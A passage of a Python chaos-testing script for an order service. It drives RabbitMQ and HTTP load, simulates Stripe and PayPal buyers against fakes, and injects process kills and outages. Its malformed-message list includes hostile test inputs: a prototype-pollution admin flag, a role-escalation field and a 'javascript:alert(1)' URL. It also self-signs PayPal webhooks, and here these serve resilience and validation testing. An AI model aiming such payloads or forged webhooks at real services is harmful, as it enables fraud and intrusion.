            ("PlaceOrder", place(discount=100), {}),
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 1, "price": 1}]), {}),
            ("PlaceOrder", place(__proto__={"admin": True}), {}),
            ("CancelOrder", cancel(requested_by={"user_id": "mallory", "roles": ["user"], "admin": True}), {}),
            ("PaymentConfirmed", confirmed(refund=True), {}),
        ])),
        ("bad values", lambda: rnd.choice([
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 0}]), {}),
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": -3}]), {}),
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 10_001}]), {}),
            ("PlaceOrder", place(items=[]), {}),
            ("PlaceOrder", place(product_id="sku-mug-001", quantity=1), {}),
            ("PlaceOrder", place(payment={"provider": "bitcoin"}), {}),
            ("PlaceOrder", place(payment={"provider": "paypal", "return_url": "javascript:alert(1)",
                                          "cancel_url": "x"}), {}),
            ("CancelOrder", cancel(order_id="not-a-uuid"), {}),
            ("PaymentConfirmed", confirmed(amount=-5), {}),
            ("PaymentConfirmed", confirmed(currency="usd"), {}),
        ])),
        ("wrong content type", lambda: ("PlaceOrder", place(), {"content_type": rnd.choice(
            ["text/plain", "application/xml", "application/x-java-serialized-object"])})),
    ]
    out = []
    for i in range(cfg.malformed):
        category, make = makers[i % len(makers)] if i < len(makers) else rnd.choice(makers)
        mtype, body, props = make()
        message_id = props.get("message_id", f"chaos-{cfg.seed}-bad-{i}")
        key = keys.get(mtype or "", rnd.choice(list(keys.values())))
        m = Malformed(i, category, key, mtype, message_id, body, props.get("content_type", "application/json"),
                      at=rnd.uniform(0, cfg.window))
        # the script's own check: the worker's decoder must refuse every one of them
        try:
            decode(Delivery(0, COMMANDS_EXCHANGE, key, "", body, m.message_id, mtype, None, None, m.content_type, {},
                            False))
        except InvalidMessage:
            pass
        else:
            raise ChaosError(f"malformed message {i} ({category}) is valid: a bug of the chaos script")
        out.append(m)
    return out


# -- driving the load ---------------------------------------------------------------------------


class Ledger:
    """What was sent and accepted (thread-safe)."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.sent: Counter[str] = Counter()
        #: inbox consumer -> message ids of commands the service accepted (broker confirm or 2xx)
        self.accepted: dict[str, set[str]] = defaultdict(set)
        self.placed: set[str] = set()  # order ids whose PlaceOrder was accepted
        self.gave_up: list[str] = []
        self.refused: Counter[str] = Counter()

    def count(self, what: str, n: int = 1) -> None:
        with self.lock:
            self.sent[what] += n

    def accept(self, consumer: str, message_id: str) -> None:
        with self.lock:
            self.accepted[consumer].add(message_id)


class Bus:
    """The script's confirmed publisher straight to RabbitMQ; reconnects and repeats until confirmed."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.conn: pika.BlockingConnection | None = None
        self.ch: Any = None
        self.reconnects = 0

    def _connect(self) -> None:
        params = pika.URLParameters(self.url)
        params.heartbeat = 60
        params.socket_timeout = 5
        self.conn = pika.BlockingConnection(params)
        self.ch = self.conn.channel()
        self.ch.confirm_delivery()

    def close(self) -> None:
        conn, self.conn, self.ch = self.conn, None, None
        if conn is not None and conn.is_open:
            with contextlib.suppress(Exception):
                conn.close()

    def publish(self, exchange: str, key: str, body: bytes, deadline: float, **props: Any) -> bool:
        properties = pika.BasicProperties(delivery_mode=2, **{k: v for k, v in props.items() if v is not None})
        while True:
            try:
                if self.ch is None or not self.ch.is_open:
                    self._connect()
                self.ch.basic_publish(exchange, key, body, properties)
                return True
            except pika.exceptions.ShortStringTooLong:
                raise  # cannot be sent at all: a bug of the script
            except (pika.exceptions.AMQPError, OSError):
                self.close()
                self.reconnects += 1
                if time.monotonic() > deadline:
                    return False
                time.sleep(0.5)

    def idle(self, seconds: float) -> None:
        if self.conn is not None and self.conn.is_open:
            try:
                self.conn.sleep(seconds)
                return
            except (pika.exceptions.AMQPError, OSError):
                self.close()
        time.sleep(seconds)


class Http:
    """Requests to the shim with the patience of a well-behaved client: 503/429/connection errors are retried."""

    def __init__(self, base: str, deadline: float) -> None:
        self.base, self.deadline = base, deadline
        self._local = threading.local()

    def client(self) -> httpx.Client:
        c = getattr(self._local, "client", None)
        if c is None:
            c = self._local.client = httpx.Client(base_url=self.base, timeout=15)
        return c

    def call(self, method: str, path: str, retry_404: bool = False, **kwargs: Any) -> httpx.Response | None:
        wait = 0.3
        tries = 0
        while True:
            tries += 1
            try:
                r = self.client().request(method, path, **kwargs)
                if r.status_code < 500 and r.status_code != 429 and not (retry_404 and r.status_code == 404
                                                                           and tries < 20):
                    return r
            except httpx.HTTPError:
                pass
            if time.monotonic() > self.deadline:
                return None
            time.sleep(wait)
            wait = min(wait * 1.6, 4.0)


class Driver:
    """Publishes the planned commands on their schedule: the bus inline, the shim from a thread pool."""

    def __init__(self, cfg: ChaosConfig, stack: Stack, orders: list[PlannedOrder], malformed: list[Malformed],
                 ledger: Ledger, deadline: float) -> None:
        self.cfg, self.stack, self.orders, self.malformed = cfg, stack, orders, malformed
        self.ledger, self.deadline = ledger, deadline
        self.bus = Bus(stack.amqp_url())
        self.http = Http(stack.shim_url, deadline)
        self.pool = ThreadPoolExecutor(8, thread_name_prefix="shim-client")
        self.done = threading.Event()
        self.error: BaseException | None = None
        self.started_at = 0.0
        self.tokens: dict[str, str] = {}
        self.shim_settings = stack.settings().shim
        self.thread = threading.Thread(target=self._run, name="driver", daemon=True)

    def token(self, user: str) -> str:
        if user not in self.tokens:
            self.tokens[user] = issue_token(self.shim_settings, user, "user", 6 * 3600)
        return self.tokens[user]

    def start(self) -> None:
        self.thread.start()

    def timeline(self) -> list[tuple[float, int, Callable[[], None]]]:
        rnd = random.Random(f"timeline-{self.cfg.seed}")
        items: list[tuple[float, int, Callable[[], None]]] = []

        def add(t: float, fn: Callable[[], None]) -> None:
            items.append((t, len(items), fn))

        for o in self.orders:
            t = o.at
            place_at = t
            if o.cancel == "before":
                add(t, partial(self.cancel_bus, o, 1))
                add(t + rnd.uniform(0.05, 4), partial(self.cancel_bus, o, 2))
                place_at = t + rnd.uniform(0.3, 2.0)
            if o.kind == "internal_early":
                add(t, partial(self.submit, self.confirm_internal, o, 1))
                add(t + rnd.uniform(0.1, 3), partial(self.submit, self.confirm_internal, o, 2))
                place_at = t + rnd.uniform(0.3, 2.0)
            second = place_at + rnd.uniform(0.05, 8)
            if o.channel == "shim":
                add(place_at, partial(self.submit, self.place_shim, o, 1))
                add(second, partial(self.submit, self.place_shim, o, 2))
            else:
                add(place_at, partial(self.place_bus, o, 1))
                add(second, partial(self.place_bus, o, 2))
            if o.cancel == "after":
                c = place_at + rnd.uniform(0.2, 20)
                add(c, partial(self.cancel_bus, o, 1))
                add(c + rnd.uniform(0.05, 4), partial(self.cancel_bus, o, 2))
            elif o.cancel == "shim":
                c = place_at + rnd.uniform(1.0, 6)
                key = f"chaos-cancel-{o.index}"
                add(c, partial(self.submit, self.cancel_shim, o, key))
                add(c + rnd.uniform(0.05, 4), partial(self.submit, self.cancel_shim, o, key))
        for m in self.malformed:
            add(m.at, partial(self.publish_malformed, m))
        heapq.heapify(items)
        return items

    def _run(self) -> None:
        try:
            items = self.timeline()
            self.started_at = time.monotonic()
            while items:
                t, _, fn = items[0]
                lag = self.started_at + t - time.monotonic()
                if lag > 0:
                    self.bus.idle(min(lag, 0.2))
                    continue
                heapq.heappop(items)
                fn()
            self.pool.shutdown(wait=True)
        except BaseException as exc:  # noqa: BLE001 - reported by the main thread
            self.error = exc
        finally:
            self.bus.close()
            self.done.set()

    def submit(self, fn: Callable[..., None], *args: Any) -> None:
        def run() -> None:
            try:
                fn(*args)
            except Exception as exc:  # noqa: BLE001
                self.error = self.error or exc

        self.pool.submit(run)

    # the bus

    def _publish(self, key: str, body: bytes, **props: Any) -> bool:
        ok = self.bus.publish(COMMANDS_EXCHANGE, key, body, self.deadline, content_type="application/json", **props)
        if not ok:
            self.ledger.gave_up.append(f"publish {props.get('type')} {props.get('message_id')}")
        return ok

    def place_bus(self, o: PlannedOrder, copy: int) -> None:
        body = json.dumps(o.place_body()).encode()
        if self._publish("order.place", body, message_id=o.place_mid, type="PlaceOrder",
                         correlation_id=f"chaos-{o.index}"):
            self.ledger.accept("orders", o.place_mid)
            with self.ledger.lock:
                self.ledger.placed.add(o.order_id)
            self.ledger.count(f"PlaceOrder on the bus (copy {copy})")

    def cancel_mid(self, o: PlannedOrder) -> str:
        return f"chaos-{self.cfg.seed}-cancel-{o.index}"

    def cancel_bus(self, o: PlannedOrder, copy: int) -> None:
        mid = self.cancel_mid(o)
        if self._publish("order.cancel", json.dumps(o.cancel_body()).encode(), message_id=mid, type="CancelOrder"):
            self.ledger.accept("orders", mid)
            self.ledger.count(f"CancelOrder on the bus (copy {copy})")

    def publish_malformed(self, m: Malformed) -> None:
        ok = self.bus.publish(COMMANDS_EXCHANGE, m.routing_key, m.body, self.deadline, message_id=m.message_id,
                              type=m.message_type, content_type=m.content_type,
                              headers={"chaos-malformed": m.index})
        if ok:
            self.ledger.count(f"malformed: {m.category}")
        else:
            self.ledger.gave_up.append(f"malformed {m.index}")

    # the shim

    def place_shim(self, o: PlannedOrder, copy: int) -> None:
        body = {"order_id": o.order_id, "items": o.items, "payment": o.payment()}
        r = self.http.call("POST", "/orders", json=body, headers={
            "Authorization": f"Bearer {self.token(o.user)}", "Idempotency-Key": f"chaos-{self.cfg.seed}-{o.index}"})
        if r is None:
            self.ledger.gave_up.append(f"POST /orders {o.order_id}")
            return
        if r.status_code == 202 and r.json().get("order_id") == o.order_id:
            self.ledger.accept("orders", o.place_mid)
            with self.ledger.lock:
                self.ledger.placed.add(o.order_id)
            self.ledger.count(f"POST /orders (copy {copy})")
        else:
            self.ledger.gave_up.append(f"POST /orders {o.order_id}: {r.status_code} {r.text[:200]}")

    def cancel_shim(self, o: PlannedOrder, key: str) -> None:
        r = self.http.call("PUT", f"/orders/{o.order_id}/cancel", retry_404=True, json={"reason": "chaos"}, headers={
            "Authorization": f"Bearer {self.token(o.user)}", "Idempotency-Key": key})
        if r is None:
            self.ledger.gave_up.append(f"PUT /orders/{o.order_id}/cancel")
        elif r.status_code == 202:
            mid = f"http-cancel-{derived_id('cancel', o.user, f'{o.order_id}:{key}')}"
            self.ledger.accept("orders", mid)
            self.ledger.count("PUT /orders/{id}/cancel accepted")
        else:  # 409: no longer cancellable (or already cancelled), 404: never became visible
            self.ledger.refused[f"PUT cancel {r.status_code}"] += 1
            self.ledger.count(f"PUT /orders/{{id}}/cancel answered {r.status_code}")

    def confirm_internal(self, o: PlannedOrder, copy: int) -> None:
        """PaymentConfirmed from the internal payment service (HMAC-signed), before the PlaceOrder."""
        event_id = f"chaos-{self.cfg.seed}-intpay-{o.index}"
        body = json.dumps({"order_id": o.order_id, "provider": "internal", "payment_id": f"int-{o.index}",
                           "amount": o.total, "currency": "USD", "event_id": event_id}).encode()
        r = self.http.call("POST", "/orders/payment-confirmation", content=body, headers={
            "X-Orders-Signature": sign_internal(HMAC_SECRET, body), "Content-Type": "application/json"})
        if r is not None and r.status_code == 200 and r.json().get("enqueued"):
            self.ledger.accept("orders", event_id)
            self.ledger.count(f"internal PaymentConfirmed before PlaceOrder (copy {copy})")
        else:
            self.ledger.gave_up.append(f"internal confirmation {o.order_id}: {r.status_code if r else 'no answer'}")


class PayPalSigner:
    """Signs PayPal webhooks with a certificate the PayPal fake serves (offline verification)."""

    def __init__(self, fake_url: str, webhook_id: str) -> None:
        from cryptography import x509
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import rsa
        from cryptography.x509.oid import NameOID

        self.key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "messageverificationcerts.sandbox.paypal.com")])
        now = datetime.now(UTC)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self.key.public_key())
                .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
                .not_valid_after(now + timedelta(days=2)).sign(self.key, hashes.SHA256()))
        pem = cert.public_bytes(serialization.Encoding.PEM)
        httpx.put(f"{fake_url}/_fake/certs/{PAYPAL_CERT_NAME}", content=pem, timeout=5).raise_for_status()
        self.cert_url = f"{fake_url}/_fake/certs/{PAYPAL_CERT_NAME}"
        self.webhook_id = webhook_id

    def headers(self, body: bytes) -> dict[str, str]:
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding

        tid = str(uuid.uuid4())
        ttime = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        message = f"{tid}|{ttime}|{self.webhook_id}|{zlib.crc32(body) & 0xFFFFFFFF}".encode()
        sig = base64.b64encode(self.key.sign(message, padding.PKCS1v15(), hashes.SHA256())).decode()
        return {"PAYPAL-TRANSMISSION-ID": tid, "PAYPAL-TRANSMISSION-TIME": ttime, "PAYPAL-TRANSMISSION-SIG": sig,
                "PAYPAL-CERT-URL": self.cert_url, "PAYPAL-AUTH-ALGO": "SHA256withRSA",
                "Content-Type": "application/json"}


def stripe_signature(payload: bytes, secret: str) -> str:
    t = int(time.time())
    mac = hmac.new(secret.encode(), f"{t}.".encode() + payload, hashlib.sha256).hexdigest()
    return f"t={t},v1={mac}"


class Buyer:
    """Plays the buyers of orders that wait for them: 3-D Secure at Stripe, approval at PayPal.

    Watches PostgreSQL for orders ``awaiting_payment``, acts at the fake (as
    the buyer's browser would), then delivers the provider's signed webhook
    to the shim three times.
    """

    def __init__(self, cfg: ChaosConfig, stack: Stack, orders: dict[str, PlannedOrder], ledger: Ledger,
                 deadline: float) -> None:
        self.cfg, self.stack, self.orders, self.ledger = cfg, stack, orders, ledger
        self.http = Http(stack.shim_url, deadline)
        self.settings = stack.settings()
        self.signer = PayPalSigner(stack.fake_urls["paypal"], self.settings.paypal.webhook_id)
        self.handled: dict[str, str] = {}  # order id -> what the buyer did
        self.pending: set[str] = set()
        self.lock = threading.Lock()
        self.pool = ThreadPoolExecutor(4, thread_name_prefix="buyer")
        self.stop_event = threading.Event()
        self.error: BaseException | None = None
        self.deliveries: Counter[str] = Counter()
        self.deadline = deadline
        self._local = threading.local()
        self._buses: list[Bus] = []
        self.thread = threading.Thread(target=self._run, name="buyer", daemon=True)

    def start(self) -> None:
        self.thread.start()

    def stop(self) -> None:
        self.stop_event.set()
        self.thread.join(10)
        self.pool.shutdown(wait=True)
        for bus in self._buses:
            bus.close()

    def _cancel_now(self, plan: PlannedOrder | None, copy: int) -> None:
        """The owner cancels while the payment is being confirmed (``cancel == "race"``)."""
        if plan is None or plan.cancel != "race":
            return
        bus = getattr(self._local, "bus", None)
        if bus is None:
            bus = self._local.bus = Bus(self.stack.amqp_url())
            with self.lock:
                self._buses.append(bus)
        mid = f"chaos-{self.cfg.seed}-cancel-{plan.index}"
        if bus.publish(COMMANDS_EXCHANGE, "order.cancel", json.dumps(plan.cancel_body()).encode(), self.deadline,
                       message_id=mid, type="CancelOrder", content_type="application/json"):
            self.ledger.accept("orders", mid)
            self.ledger.count(f"CancelOrder racing the payment (copy {copy})")
        else:
            self.ledger.gave_up.append(f"publish CancelOrder {mid}")

    @property
    def idle(self) -> bool:
        with self.lock:
            return not self.pending

    def _run(self) -> None:
        conn = None
        while not self.stop_event.is_set():
            try:
                if conn is None or conn.closed:
                    conn = psycopg2.connect(self.stack.direct_dsn(), connect_timeout=3, application_name="chaos-buyer")
                    conn.autocommit = True
                with conn.cursor() as cur:
                    cur.execute("SELECT o.order_id::text, o.payment_provider, p.provider_payment_id FROM orders o"
                                " JOIN payments p USING (order_id) WHERE o.status = 'awaiting_payment'"
                                " AND p.status = 'requires_action' AND p.provider_payment_id IS NOT NULL")
                    rows = cur.fetchall()
            except psycopg2.Error:
                if conn is not None:
                    with contextlib.suppress(Exception):
                        conn.close()
                conn = None
                self.stop_event.wait(1.0)
                continue
            for order_id, provider, pid in rows:
                with self.lock:
                    if order_id in self.handled or order_id in self.pending:
                        continue
                    self.pending.add(order_id)
                self.pool.submit(self._act_safely, order_id, provider, pid)
            self.stop_event.wait(0.5)
        if conn is not None:
            conn.close()

    def _act_safely(self, order_id: str, provider: str, pid: str) -> None:
        try:
            what = self._pay_stripe(order_id, pid) if provider == "stripe" else self._pay_paypal(order_id, pid)
        except Exception as exc:  # noqa: BLE001
            self.error = self.error or exc
            what = f"error: {exc!r}"
        with self.lock:
            self.handled[order_id] = what
            self.pending.discard(order_id)

    def _deliver(self, body: bytes, headers: Callable[[], dict[str, str]], kind: str,
                 plan: PlannedOrder | None = None) -> bool:
        ok = True
        for copy in (1, 2, 3):  # the provider delivers the same event three times
            if copy < 3:
                self._cancel_now(plan, copy)
            r = self.http.call("POST", "/orders/payment-confirmation", content=body, headers=headers())
            if r is None or r.status_code != 200:
                self.ledger.gave_up.append(f"{kind} webhook: {r.status_code if r else 'no answer'} "
                                           f"{r.text[:200] if r else ''}")
                ok = False
                continue
            self.deliveries[kind] += 1
        return ok

    def _pay_stripe(self, order_id: str, pi: str) -> str:
        plan = self.orders.get(order_id)
        fail = plan is not None and plan.kind == "3ds_fail"
        r = httpx.post(f"{self.stack.fake_urls['stripe']}/_fake/confirm/{pi}",
                       json={"outcome": "failed" if fail else "succeeded"}, timeout=10)
        if r.status_code != 200:
            return f"confirm at the fake answered {r.status_code}"
        intent = r.json()
        index = plan.index if plan else abs(hash(order_id))
        event_type = "payment_intent.payment_failed" if fail else "payment_intent.succeeded"
        event_id = f"evt_chaos{self.cfg.seed}_{index}"
        payload = json.dumps({"id": event_id, "object": "event", "api_version": "2024-06-20",
                              "created": int(time.time()), "livemode": False, "type": event_type,
                              "data": {"object": intent}}).encode()
        secret = self.settings.stripe.webhook_secret.get_secret_value()
        if self._deliver(payload, lambda: {"Stripe-Signature": stripe_signature(payload, secret),
                                           "Content-Type": "application/json"}, "stripe", plan):
            self.ledger.accept("payments" if fail else "orders", event_id)
        return f"3-D Secure {'failed' if fail else 'passed'}, webhook ×3"

    def _pay_paypal(self, order_id: str, paypal_order: str) -> str:
        plan = self.orders.get(order_id)
        decline = plan is not None and plan.kind == "paypal_decline"
        r = httpx.post(f"{self.stack.fake_urls['paypal']}/_fake/approve/{paypal_order}",
                       json={"decline": "capture"} if decline else {}, timeout=10)
        if r.status_code != 200:
            return f"approve at the fake answered {r.status_code}"
        order = r.json()
        unit = order["purchase_units"][0]
        index = plan.index if plan else abs(hash(order_id))
        event_id = f"WH-CHAOS{self.cfg.seed}-{index}"
        payload = json.dumps({"id": event_id, "event_version": "1.0", "create_time": datetime.now(UTC)
                              .strftime("%Y-%m-%dT%H:%M:%SZ"), "resource_type": "checkout-order",
                              "event_type": "CHECKOUT.ORDER.APPROVED", "summary": "An order has been approved by buyer",
                              "resource": {"id": paypal_order, "status": "APPROVED", "intent": "CAPTURE",
                                           "purchase_units": [{"reference_id": unit.get("reference_id", "default"),
                                                               "custom_id": unit.get("custom_id"),
                                                               "amount": unit["amount"]}]}}).encode()
        if self._deliver(payload, lambda: self.signer.headers(payload), "paypal", plan):
            self.ledger.accept("payments", event_id)
        return f"approved{' (capture to be declined)' if decline else ''}, webhook ×3"


# -- injections --------------------------------------------------------------------------------


@dataclass
class Injection:
    kind: str
    at: float
    done_at: float | None = None
    detail: str = ""
    ok: bool = True


class Injector:
    """Runs the seeded schedule of kills and outages while the load runs."""

    def __init__(self, cfg: ChaosConfig, stack: Stack) -> None:
        self.cfg, self.stack = cfg, stack
        rnd = random.Random(f"injections-{cfg.seed}")
        kinds = (["worker kill"] * cfg.worker_kills + ["relay kill"] * cfg.relay_kills
                 + ["rabbitmq restart", "postgresql restart", "redis stop"])
        rnd.shuffle(kinds)
        span = cfg.window * 0.9
        slot = span / max(1, len(kinds))
        self.schedule = [Injection(kind, cfg.window * 0.05 + i * slot + rnd.uniform(0, slot * 0.5))
                         for i, kind in enumerate(kinds)]
        self.rnd = rnd
        self.done = threading.Event()
        self.stop_event = threading.Event()
        self.error: BaseException | None = None
        self.killed_workers: list[int] = []
        self.takeovers: list[float] = []
        self.thread = threading.Thread(target=self._run, name="injector", daemon=True)
        self.t0 = 0.0

    def start(self, t0: float) -> None:
        self.t0 = t0
        self.thread.start()

    def _run(self) -> None:
        try:
            ready = 0.0
            for inj in self.schedule:
                while time.monotonic() < max(self.t0 + inj.at, ready):
                    if self.stop_event.wait(0.1):
                        return
                started = time.monotonic()
                getattr(self, "_" + inj.kind.replace(" ", "_").replace("postgresql", "postgres"))(inj)
                inj.done_at = started - self.t0
                ready = time.monotonic() + MIN_GAP
                say(f"injected {inj.kind} at {inj.done_at:.1f}s: {inj.detail}")
        except BaseException as exc:  # noqa: BLE001 - reported by the main thread
            self.error = exc
            say(f"injector failed: {exc!r}")
        finally:
            self.done.set()

    def _worker_kill(self, inj: Injection) -> None:
        pool = self.stack.pool
        assert pool is not None
        deadline = time.monotonic() + 30
        while True:
            kids = [p for p in pool.children() if process_age(p) >= MIN_CHILD_AGE]
            if kids:
                break
            if time.monotonic() > deadline:
                inj.ok, inj.detail = False, "no worker process old enough to kill"
                return
            time.sleep(0.2)
        victim = self.rnd.choice(sorted(kids))
        os.kill(victim, signal.SIGKILL)
        self.killed_workers.append(victim)
        inj.detail = f"SIGKILL pid {victim}"

    def _relay_kill(self, inj: Injection) -> None:
        deadline = time.monotonic() + 30
        active = self.stack.active_relay()
        while active is None and time.monotonic() < deadline:
            time.sleep(0.2)
            active = self.stack.active_relay()
        if active is None:
            inj.ok, inj.detail = False, "no active relay found"
            return
        others = [r for r in self.stack.relays if r is not active]
        before = {r.name: sum(1 for e in r.log_events() if e.get("event") == "relay active") for r in others}
        pid = active.pid
        active.kill()
        killed_at = time.monotonic()
        took_over = None
        while time.monotonic() - killed_at < 30:
            for r in others:
                if sum(1 for e in r.log_events() if e.get("event") == "relay active") > before[r.name]:
                    took_over = time.monotonic() - killed_at
                    break
            if took_over is not None:
                break
            time.sleep(0.1)
        # the script brings the killed relay back (as a process manager would); it becomes the standby
        time.sleep(self.rnd.uniform(0.5, 2.0))
        active.start()
        if took_over is None:
            inj.ok, inj.detail = False, f"SIGKILL pid {pid}; the standby did not take over within 30 s"
        else:
            self.takeovers.append(took_over)
            inj.detail = f"SIGKILL pid {pid} ({active.name}); standby active after {took_over:.1f}s; restarted"

    def _outage(self, inj: Injection, down: Callable[[], None], up: Callable[[], None], seconds: float,
                what: str) -> None:
        started = time.monotonic()
        down()
        if not self.cfg.real_restarts or what == "redis":
            time.sleep(seconds)
        up()
        inj.detail = f"{what} away for {time.monotonic() - started:.1f}s" + (
            " (machine's server restarted)" if self.cfg.real_restarts else
            " (proxy cut)" if what != "redis" else " (private redis-server killed, started again empty)")

    def _rabbitmq_restart(self, inj: Injection) -> None:
        self._outage(inj, self.stack.rabbit_down, self.stack.rabbit_up, self.cfg.rabbit_outage_s, "rabbitmq")

    def _postgres_restart(self, inj: Injection) -> None:
        self._outage(inj, self.stack.postgres_down, self.stack.postgres_up, self.cfg.postgres_outage_s, "postgresql")

    def _redis_stop(self, inj: Injection) -> None:
        self._outage(inj, self.stack.redis_down, self.stack.redis_up, self.cfg.redis_outage_s, "redis")


# -- observing the end state ---------------------------------------------------------------------


def queue_depths(stack: Stack) -> dict[str, int]:
    """Messages per queue of the run's vhost, ready and unacknowledged (rabbitmqctl)."""
    done = _run(["rabbitmqctl", "list_queues", "-p", stack.cfg.vhost, "name", "messages", "--quiet",
                 "--no-table-headers"], timeout=60, check=False)
    if done.returncode != 0:
        raise ChaosError(f"rabbitmqctl list_queues failed: {done.stderr.strip()[-300:]}")
    out = {}
    for line in done.stdout.splitlines():
        parts = line.split()
        if len(parts) == 2 and parts[1].isdigit():
            out[parts[0]] = int(parts[1])
    return out


def db_counts(dsn: str) -> dict[str, Any]:
    conn = psycopg2.connect(dsn, connect_timeout=5, application_name="chaos-check")
    try:
        with conn.cursor() as cur:
            cur.execute(
                "SELECT (SELECT count(*) FROM orders),"
                " (SELECT count(*) FROM orders WHERE status = 'pending'),"
                " (SELECT count(*) FROM orders WHERE status = 'awaiting_payment'),"
                " (SELECT count(*) FROM payments WHERE status IN ('started', 'unknown', 'capturing')),"
                " (SELECT count(*) FROM outbox WHERE published_at IS NULL),"
                " (SELECT coalesce(max(id), 0) FROM order_transitions),"
                " (SELECT count(*) FROM inbox),"
                # money the service can give back itself; an internal payment goes to an operator
                " (SELECT count(*) FROM payments WHERE status = 'succeeded' AND provider IN ('stripe', 'paypal')"
                "   AND order_id IN"
                "   (SELECT order_id FROM orders WHERE status IN ('cancelled', 'rejected')))")
            row = cur.fetchone()
    finally:
        conn.close()
    keys = ("orders", "pending", "awaiting_payment", "payments_unsettled", "outbox", "last_transition", "inbox",
            "refund_due")
    return dict(zip(keys, row))


def awaiting_ids(dsn: str) -> list[str]:
    conn = psycopg2.connect(dsn, connect_timeout=5, application_name="chaos-check")
    try:
        with conn.cursor() as cur:
            cur.execute("SELECT order_id::text FROM orders WHERE status = 'awaiting_payment'")
            return [r[0] for r in cur.fetchall()]
    finally:
        conn.close()


def wait_for_quiescence(stack: Stack, ledger: Ledger, buyer: Buyer, timeout: float) -> dict[str, Any]:
    """Until queues, outbox and payments are empty and nothing changes; ChaosError at the deadline."""
    deadline = time.monotonic() + timeout
    work_queues = [*COMMAND_QUEUES, PAYMENTS_QUEUE, *(delay_queue(s) for s in stack.cfg.retry_delays)]
    last, stable, started = None, 0, time.monotonic()
    reasons: list[str] = []
    while True:
        reasons = []
        try:
            counts = db_counts(stack.direct_dsn())
            depths = queue_depths(stack)
        except (psycopg2.Error, ChaosError) as exc:
            counts, depths = {}, {}
            reasons.append(f"cannot observe: {exc}")
        if counts:
            with buyer.lock:
                handled = set(buyer.handled)
            waiting = set(awaiting_ids(stack.direct_dsn())) if counts["awaiting_payment"] else set()
            if counts["orders"] < len(ledger.placed):
                reasons.append(f"{len(ledger.placed) - counts['orders']} accepted orders not in PostgreSQL")
            for key in ("pending", "payments_unsettled", "outbox", "refund_due"):
                if counts[key]:
                    reasons.append(f"{counts[key]} {key.replace('_', ' ')}")
            if waiting - handled or not buyer.idle:
                reasons.append(f"{len(waiting - handled)} orders awaiting a buyer")
        for q in work_queues:
            if depths.get(q):
                reasons.append(f"{q}: {depths[q]} messages")
        if not reasons:
            snapshot = (counts["last_transition"], counts["inbox"], counts["orders"])
            stable = stable + 1 if snapshot == last else 0
            last = snapshot
            if stable >= 2:
                return {"seconds": time.monotonic() - started, **counts}
        else:
            stable, last = 0, None
        if time.monotonic() > deadline:
            raise ChaosError(f"no quiescence within {timeout:.0f}s: " + "; ".join(reasons or ["still changing"]))
        time.sleep(1.5)


@dataclass
class Snapshot:
    orders: dict[str, dict[str, Any]]
    transitions: dict[str, list[dict[str, Any]]]
    payments: dict[str, dict[str, Any]]
    inbox: dict[str, set[str]]
    items: dict[str, list[tuple[str, int]]]
    events: list[dict[str, Any]]
    dead_letters: list[dict[str, Any]]
    stripe: dict[str, Any]
    paypal: dict[str, Any]
    audit: dict[str, Any]
    read_model: dict[str, str]
    tables: list[str]


def capture_events(url: str) -> list[dict[str, Any]]:
    """Everything on the capture queue, in arrival order (consumed: the run is over)."""
    conn = pika.BlockingConnection(pika.URLParameters(url))
    ch = conn.channel()
    expected = ch.queue_declare(CAPTURE_QUEUE, passive=True).method.message_count
    ch.basic_qos(prefetch_count=2000)
    events: list[dict[str, Any]] = []
    last = [0]

    def on_message(_ch: Any, method: Any, props: Any, body: bytes) -> None:
        events.append({"routing_key": method.routing_key, "exchange": method.exchange,
                       "message_id": props.message_id, "raw": body})
        last[0] = method.delivery_tag
        if len(events) % 1000 == 0:
            ch.basic_ack(last[0], multiple=True)

    ch.basic_consume(CAPTURE_QUEUE, on_message)
    quiet = time.monotonic()
    while len(events) < expected or time.monotonic() - quiet < 1.0:
        n = len(events)
        conn.process_data_events(time_limit=0.2)
        if len(events) != n:
            quiet = time.monotonic()
        elif time.monotonic() - quiet > 10:
            break
    if last[0]:
        ch.basic_ack(last[0], multiple=True)
    conn.close()
    for e in events:
        try:
            e["body"] = json.loads(e["raw"])
        except ValueError:
            e["body"] = None
    return events


def read_dead_letters(url: str) -> list[dict[str, Any]]:
    """The dead-letter queue's messages, left in place (not acknowledged)."""
    conn = pika.BlockingConnection(pika.URLParameters(url))
    ch = conn.channel()
    expected = ch.queue_declare(DEAD_LETTER_QUEUE, passive=True).method.message_count
    ch.basic_qos(prefetch_count=min(65535, expected + 100))
    found: list[dict[str, Any]] = []

    def on_message(_ch: Any, _method: Any, props: Any, body: bytes) -> None:
        try:
            order_id = json.loads(body).get("order_id")
        except (ValueError, AttributeError):
            order_id = None
        found.append({"message_id": props.message_id, "type": props.type, "headers": dict(props.headers or {}),
                      "size": len(body), "order_id": order_id})

    ch.basic_consume(DEAD_LETTER_QUEUE, on_message)
    started = time.monotonic()
    while len(found) < expected and time.monotonic() - started < 30:
        conn.process_data_events(time_limit=0.2)
    conn.close()  # unacknowledged: they stay in the queue for the operator
    return found


def snapshot(stack: Stack) -> Snapshot:
    dsn = stack.direct_dsn()
    conn = psycopg2.connect(dsn, connect_timeout=5, application_name="chaos-check")
    try:
        cur = conn.cursor()
        cur.execute("SELECT order_id::text, status, user_id, total, currency, payment_provider, place_message_id,"
                    " reason FROM orders")
        orders = {r[0]: dict(zip(("order_id", "status", "user_id", "total", "currency", "provider", "place_mid",
                                  "reason"), r)) for r in cur.fetchall()}
        cur.execute("SELECT order_id::text, from_status, to_status, message_id, id FROM order_transitions ORDER BY id")
        transitions: dict[str, list[dict[str, Any]]] = defaultdict(list)
        for r in cur.fetchall():
            transitions[r[0]].append({"from": r[1], "to": r[2], "message_id": r[3], "id": r[4]})
